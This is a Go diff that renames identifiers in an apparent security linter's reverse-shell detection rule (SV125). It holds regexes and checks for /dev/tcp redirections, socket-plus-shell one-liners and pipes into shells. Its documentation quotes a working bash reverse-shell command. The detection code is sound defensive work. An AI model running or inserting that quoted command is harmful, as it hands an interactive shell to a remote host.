@@ -8,15 +8,15 @@ import (
 	"github.com/skillvet/skillvet/parse/shell"
 )
 
-// ReverseShell reports commands that hand a shell to a remote host.
-var ReverseShell = register(&analyzer.Rule{
+// ShellReverseShell reports commands that hand a shell to a remote host.
+var ShellReverseShell = register(&analyzer.Rule{
 	ID:       "SV125",
 	Name:     "reverse-shell",
 	Title:    "Reverse shell or remote command channel",
 	Severity: Critical,
 	Category: analyzer.CatRemoteExec,
 	Tags:     []string{"security", "CWE-506", "CWE-78"},
-	Inputs:   shellInputs,
+	Inputs:   shShellInputs,
 	Doc: `Finds the classic ways to give a remote host an interactive shell on this machine:
 
 - ` + "`/dev/tcp/host/port`" + ` or ` + "`/dev/udp/…`" + ` redirections (` + "`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`" + `);
@@ -41,14 +41,14 @@ Good:
 ` + "```sh" + `
 ssh deploy@build.example.com ./deploy.sh   # an explicit, authenticated session
 ` + "```",
-	Run: runReverseShell,
+	Run: shRunReverseShell,
 })
 
-var devTCPRx = regexp.MustCompile(`/dev/(tcp|udp)/[^/\s]+/\d+`)
-var inlineSocketRx = regexp.MustCompile(`(?i)socket|TCPSocket|fsockopen|IO::Socket|net\.Socket|net\.connect`)
-var inlineShellRx = regexp.MustCompile(`(?i)pty\.spawn|dup2|subprocess|/bin/(ba)?sh|\bexec\b|spawn\(|popen|system\(|child_process|cmd\.exe`)
+var shDevTCPRx = regexp.MustCompile(`/dev/(tcp|udp)/[^/\s]+/\d+`)
+var shInlineSocketRx = regexp.MustCompile(`(?i)socket|TCPSocket|fsockopen|IO::Socket|net\.Socket|net\.connect`)
+var shInlineShellRx = regexp.MustCompile(`(?i)pty\.spawn|dup2|subprocess|/bin/(ba)?sh|\bexec\b|spawn\(|popen|system\(|child_process|cmd\.exe`)
 
-func runReverseShell(p *analyzer.Pass) error {
+func shRunReverseShell(p *analyzer.Pass) error {
 	sites, err := p.ShellSites()
 	if err != nil {
 		return err
@@ -58,31 +58,31 @@ func runReverseShell(p *analyzer.Pass) error {
 		s := site.Script
 		fifo := false
 		for _, c := range s.Commands {
-			if c.Name == "mkfifo" || c.Name == "mknod" && hasArg(c, "p") {
+			if c.Name == "mkfifo" || c.Name == "mknod" && shHasArg(c, "p") {
 				fifo = true
 			}
 		}
 		reported := map[int]bool{}
 		for _, c := range s.Commands {
-			why := reverseShell(s, c, fifo)
+			why := shReverseShell(s, c, fifo)
 			if why == "" || reported[c.Start] {
 				continue
 			}
 			reported[c.Start] = true
-			report(p, site, analyzer.Diagnostic{Start: c.Start, End: cmdEnd(c), Message: "reverse shell: " + why + where(site)})
+			shReport(p, site, analyzer.Diagnostic{Start: c.Start, End: shCmdEnd(c), Message: "reverse shell: " + why + shWhere(site)})
 		}
 	}
 	return nil
 }
 
-func reverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
+func shReverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
 	for _, r := range c.Redirs {
-		if m := devTCPRx.FindString(r.Target.Value); m != "" {
+		if m := shDevTCPRx.FindString(r.Target.Value); m != "" {
 			return "redirects " + c.Name + " through " + m
 		}
 	}
 	for _, w := range c.Argv {
-		if m := devTCPRx.FindString(w.Value); m != "" && c.Name != "echo" && c.Name != "grep" {
+		if m := shDevTCPRx.FindString(w.Value); m != "" && c.Name != "echo" && c.Name != "grep" {
 			return c.Name + " connects through " + m
 		}
 	}
@@ -95,7 +95,7 @@ func reverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
 				return c.Name + " " + v + " hands a program to the connection"
 			}
 		}
-		if k := pipeSink(s, c); k != nil && shell.IsShell(k.Name) {
+		if k := shPipeSink(s, c); k != nil && shell.IsShell(k.Name) {
 			return c.Name + " output is piped into " + k.Name
 		}
 		if c.PipePrev >= 0 && shell.IsShell(s.Commands[c.PipePrev].Name) {
@@ -108,7 +108,7 @@ func reverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
 		if c.Name == "openssl" && c.Arg(1) != "s_client" {
 			return ""
 		}
-		if k := pipeSink(s, c); k != nil && shell.IsShell(k.Name) {
+		if k := shPipeSink(s, c); k != nil && shell.IsShell(k.Name) {
 			return c.Name + " output is piped into " + k.Name
 		}
 	case "socat":
@@ -118,7 +118,7 @@ func reverseShell(s *shell.Script, c *shell.Command, fifo bool) string {
 		}
 	case "python", "python2", "python3", "perl", "ruby", "php", "node", "lua":
 		for _, w := range c.Argv[1:] {
-			if inlineSocketRx.MatchString(w.Value) && inlineShellRx.MatchString(w.Value) {
+			if shInlineSocketRx.MatchString(w.Value) && shInlineShellRx.MatchString(w.Value) {
 				return c.Name + " one-liner opens a socket and spawns a shell"
 			}
 		}
